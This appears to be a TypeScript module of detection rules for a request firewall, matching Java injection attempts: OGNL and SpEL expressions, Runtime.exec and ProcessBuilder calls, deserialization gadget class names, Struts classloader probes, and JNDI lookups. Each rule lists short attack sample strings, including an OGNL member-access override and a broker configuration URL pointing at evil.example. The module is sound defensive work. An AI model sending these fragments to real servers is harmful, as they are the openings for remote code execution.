import { type PatternRule, pattern, type Rule, type Span } from '../rule/rule.ts'
import { CHAR } from '../value/features.ts'
import type { Reading } from '../value/reading.ts'
import { WORD } from '../value/words.ts'

/** Where reports of errors and traces name the class that code ran in. */
const NAMED_CLASS =
  /(?:^|[._-])(?:module|type|(?:main_?|start_?)?class(?:_?name)?|signature|logger|exception|package|namespace|function|error|cause|caused_?by|component|source|frame|filename|abs_path|culprit|transaction|mechanism|scope|kind|qualified_?name)$/

/** Packages that only their own classes use: no build names them, and a document only where it lists some. */
const INNER_PACKAGE =
  /\b(?:com\.(?:opensymphony\.xwork2|sun\.(?:org\.apache|rowset|jndi|jmx))|java\.lang\.(?:reflect|processbuilder|process\b))/
/** Where documents list packages, or show them: elements of a list have no name. */
const LISTING =
  /^$|(?:packages?|modules?|(?:ex|im)ports?|(?:in|ex)cludes?|opens|groups?|id|names?|artifact|prefix|target|source|label|text|title|key|value|path|class|scope|filter|logger|category|components?|dependency|library|bundle|symbol|type|from|to|url|ref)$|^[a-z]$/

/** Types of values and their arrays, which interfaces and plugins say of a parameter: they run nothing. */
const VALUE_TYPE =
  /^\s{0,4}["']?java\.lang\.(?:string|integer|long|boolean|double|float|short|byte|character|charsequence|number|object|void|enum|comparable|iterable)(?:\[\]){0,4}["']?\s{0,4}$/

/**
 * The rule, but for types of values in documents, and for what one names with small letters alone: a
 * package, as builds and lists of components write it. Classes have capitals, and no other spelling.
 */
function unlessPackage(rule: PatternRule): PatternRule {
  return {
    ...rule,
    find: (reading, parts) =>
      reading.standsIn === 'body' && (isPackage(reading) || isValueType(reading))
        ? undefined
        : rule.find(reading, parts),
  }
}

/** Fields of a form name no types; what is tried first there is whether a class is named at all. */
function isValueType({ place, lower }: Reading): boolean {
  return place === 'body' && VALUE_TYPE.test(lower)
}

function isPackage(reading: Reading): boolean {
  const { text } = reading
  return !/[A-Z]/.test(text) && (!INNER_PACKAGE.test(text) || LISTING.test(reading.name))
}

/** An address of a directory under a name that says that it is looked up there. */
function findNamedLookup(reading: Reading): Span | undefined {
  const found = /^\s{0,4}(?:ldaps?|rmi|dns|iiop|corba):\/\/[^\s]{1,80}/.exec(reading.lower)
  return found === null || !reading.name.includes('jndi') ? undefined : { start: 0, end: found[0].length }
}

/** Java: class names where data belongs, OGNL and SpEL, gadget chains, Struts and Spring probes. */
export const javaRules: readonly Rule[] = [
  // Expression languages have the class of a number or a text, and the class of whatever they name from it.
  pattern('java/literal-class', /(?:\b\d{1,3}|''|"")\.class\.forname\s{0,2}\(/, {
    score: 5,
    words: WORD.java,
    attacks: ["x=1.class.forName('java.lang.Thread')", `''.class.forName("java.lang.Runtime")`],
    benign: ["Main.class.forName('x')", 'a.class.getName()'],
  }),
  // What a driver reads objects from a server with, that the sender names.
  pattern('java/reading-driver', /\bserverstatusdiffinterceptor\b/, {
    score: 5,
    words: WORD.java,
    attacks: ['com.mysql.cj.jdbc.interceptors.ServerStatusDiffInterceptor'],
    benign: ['com.mysql.cj.jdbc.Driver', 'ServerStatus'],
  }),
  // Where a broker is to load its configuration from.
  pattern('java/broker-config', /\bxbean:(?:https?|ftp|jar):/, {
    score: 5,
    chars: CHAR.scheme,
    attacks: ['static:(vm://x?brokerConfig=xbean:http://evil.example/a.xml)'],
    benign: ['xbean:activemq.xml', 'xbean:file:conf/activemq.xml', 'vm://localhost'],
  }),
  unlessPackage(
    pattern(
      'java/class-name',
      /^\s{0,4}(?!javax\.faces\.(?:viewstate|partial|source|behavior|clientwindow|renderkitid|encodedurl|resource)|org\.apache\.struts\.taglib)(?:\w[\w.-]{0,40}\s{0,2}[=:]\s{0,2})?["'(]{0,2}(?:javax?\.(?:io|lang|script|naming|rmi|management|runtime|process\w{0,12}|beans|faces|el)|java\.runtime|javassist|com\.(?:opensymphony|sun\.(?:org|rowset|jndi|jmx))|org\.(?:apache\.(?:commons|struts2?|xalan|tomcat|catalina|logging|xbean|velocity|shiro|log4j|bcel)|springframework|omg|hibernate|codehaus|jboss|mozilla\.javascript|python\.core)|sun\.(?:misc|reflect|rmi))(?!\.[\w.$]{0,80}(?:exception|error|thread)\b)(?:\.[\w$]{1,48}){0,8}["')]{0,2}(?:\s{0,2}=\s{0,2}\w{0,24})?\s{0,4}$/,
      {
        score: 5,
        atStart: true,
        unlessNamed: NAMED_CLASS,
        words: WORD.java,
        attacks: [
          'java.lang.Runtime',
          'java.io.FileOutputStream',
          'com.opensymphony.xwork2',
          'test=java.Runtime',
          'org.apache.commons',
        ],
        benign: [
          'java lang courses',
          'javascript',
          'java.com',
          'com.example.app',
          'I like java.lang.String very much',
        ],
      },
    ),
  ),
  pattern(
    'java/runtime',
    /\b(?:getruntime\s{0,4}\(|runtime\.(?:getruntime|exec)(?!\(\w{1,40}\.(?:java|kt|scala):\d)|processbuilder\s{0,4}[.(]|\.exec\s{0,4}\(\s{0,4}["'][^)]{0,80}\)\s{0,4}\.get|class\.forname\s{0,4}\(|getclass\s{0,4}\(\s{0,4}\)\s{0,4}\.|getdeclaredmethod|new\s{1,4}(?:java|javax)\.(?!awt\.(?:color|dimension|font|point|rectangle)\b)\w{1,12}\.|scriptenginemanager|memberaccess|ognl(?:context|util)|xwork2\.|actioncontext[.@\])'"]|t\(\s{0,4}java\.lang|class(?:\.module)?(?:\.|\[["']?)classloader|classloader\.(?:resources|defaultassertion|urls?)|multipart\/form-data[^\n]{0,40}%\{)|\.forname\s{0,2}\(\s{0,2}["']|\breflectutils\.|\bgetsystemclassloader\(|#_memberaccess\b|#context\[/,
    {
      score: 5,
      quotable: true,
      words: WORD.java,
      attacks: [
        'Runtime.getRuntime().exec("id")',
        '%{(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}',
        'class.module.classLoader.resources',
        '#_memberAccess["allowStaticMethodAccess"]=true',
        'class.classLoader.x',
        "''.getClass().forName('x')",
        'new ProcessBuilder("id")',
      ],
      benign: [
        'the runtime exec team',
        'class loader',
        'processbuilder',
        'ActionContext',
        'new java.awt.Color(1, 2, 3)',
      ],
    },
  ),
  // OGNL: a static method or field of a class.
  pattern(
    'java/static-call',
    /@(?:[a-z]\w{0,40}\.){1,8}\w{1,60}@(?:\w{1,60}\s{0,2}\(|[a-z]{2,24}_\w)|@(?:java\.lang|ognl)\.\w/,
    {
      score: 5,
      quotable: true,
      chars: CHAR.at,
      words: WORD.java,
      attacks: [
        '(@java.lang.Runtime@getRuntime())',
        '@org.apache.struts2.ServletActionContext@getResponse()',
        '@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS',
      ],
      benign: ['@java (the language)', 'ann@mail.example.com', '@com.example.App@1f2e3d'],
    },
  ),
  pattern(
    'java/gadget',
    /\b(?:clonetransformer|forclosure|instantiatefactory|instantiatetransformer|invokertransformer|prototypeclonefactory|prototypeserializationfactory|whileclosure|constanttransformer|chainedtransformer|lazymap|templatesimpl|badattributevalueexp|annotationinvocationhandler|jdbcrowsetimpl|methodclosure|convertedclosure|fileuploadgadget|processbuilder\.\w{1,24}\.beanshell|freemarker\.template\.utility\.(?:execute|objectconstructor|jythonruntime)|springframework\.context\.support\.(?:classpath|filesystem)xmlapplicationcontext)\b|jdbcrowsetimpl|jndiloginmodule/,
    {
      score: 5,
      quotable: true,
      words: WORD.java,
      attacks: [
        'ProcessBuilder.evil.clonetransformer=x',
        'freemarker.template.utility.Execute',
        'ProcessBuilder.evil.beanshell=x',
        'x InvokerTransformer',
        'xcom.sun.rowset.JdbcRowSetImplx',
      ],
      benign: ['transformer toys', 'lazy map', 'org.beanshell:bsh:2.0b4'],
    },
  ),
  pattern(
    'java/gadget-name',
    /^\s{0,4}(?:[\w.]{1,24}=)?(?:processbuilder|runtime|java)\.\w{1,24}\.(?:\w{1,20})(?:factory|transformer|closure)(?:=\w{0,24})?\s{0,4}$/,
    {
      score: 5,
      atStart: true,
      words: WORD.java,
      attacks: ['ProcessBuilder.evil.invokertransformer', 'ProcessBuilder.evil.whileclosure=test'],
      benign: ['runtime.config.factory.x y'],
    },
  ),
  pattern(
    'java/expression',
    /[%$#]\{[ \t]{0,8}(?:#(?![\w@*]{1,40}(?:\[[\w@*]\])?\}|\s)|\(\s{0,4}#|@?[a-z.]{0,40}(?:getruntime|exec\(|class(?:\.|loader)|forname\(|request\.(?:get|set|session|servlet|context|class|application|attribute|header|param)|session(?:scope|\.get|\.set)|systemproperties|systemenvironment|facescontext|param\.|application(?:scope|\.(?![a-z]{1,24}(?:[.-][a-z]{1,24}){0,4}\}))|pagecontext|header\[|cookie\[|initparam))|%\{\s{0,4}#|%\{(?!\s{0,4}-{0,2}[a-z][a-z-]{1,30}:)[^}\u0000-\u0008\u000e-\u001f\u007f-\u009f]{0,24}(?:\d\s?[*+-]\s?\d|#|@)|redirect(?:action)?:\s{0,4}[$%#]\{|method:#|action:[$%]\{/,
    {
      score: 5,
      quotable: true,
      chars: CHAR.brace,
      attacks: ['%{#context}', '#{systemProperties}', '${request.getSession()}', 'redirect:${#a}'],
      benign: [
        '%{count}',
        '${user}',
        'method: see below',
        'btn ${className}',
        '${applicationName}',
        '${application.build.version}',
        '${sessionId}',
        '${#items[@]}',
        '@keyframes blink{50%{background-color:#0000}}',
        '0%{border:1px solid #ccc}',
      ],
    },
  ),
  // A factory by its name, where the name of a bean stands in a path.
  pattern('java/factory-bean', /\/&\w{3,60}\//, {
    score: 5,
    places: ['path'],
    chars: CHAR.ampersand,
    attacks: ['/rest/proxy/service/&vsanQueryUtil_setDataService/setTargetObject'],
    benign: ['/a&b/c', '/&/x', '/x/&amp'],
  }),
  // An object of a class that the sender names, built from what he writes.
  pattern(
    'java/constructor',
    /^\s{0,4}(?:new\s{1,4})?(?:javax?|com|org|weblogic|sun|oracle|bsh)\.(?:[a-z]\w{0,40}\.){1,8}[a-z]\w{2,60}\(\s{0,4}["'#][^\n]{0,200}\)\s{0,4}$/,
    {
      score: 5,
      atStart: true,
      chars: CHAR.paren,
      words: WORD.java,
      places: ['query', 'body', 'cookie', 'header'],
      attacks: [
        'java.lang.String("x")',
        'com.tangosol.coherence.mvel2.sh.ShellSession("x")',
        "new java.io.File('/x')",
      ],
      benign: ['com.example.app', 'org.example (the site)', 'java.util.List (interface)'],
    },
  ),
  {
    id: 'java/jndi-name',
    family: 'java',
    score: 5,
    quotable: false,
    atStart: true,
    chars: CHAR.scheme,
    words: WORD.lookup,
    find: findNamedLookup,
    // By the name of the parameter: the cases are in `test/exploits.test.ts`.
    attacks: [],
    benign: ['ldap://directory.example/o=x'],
  },
]
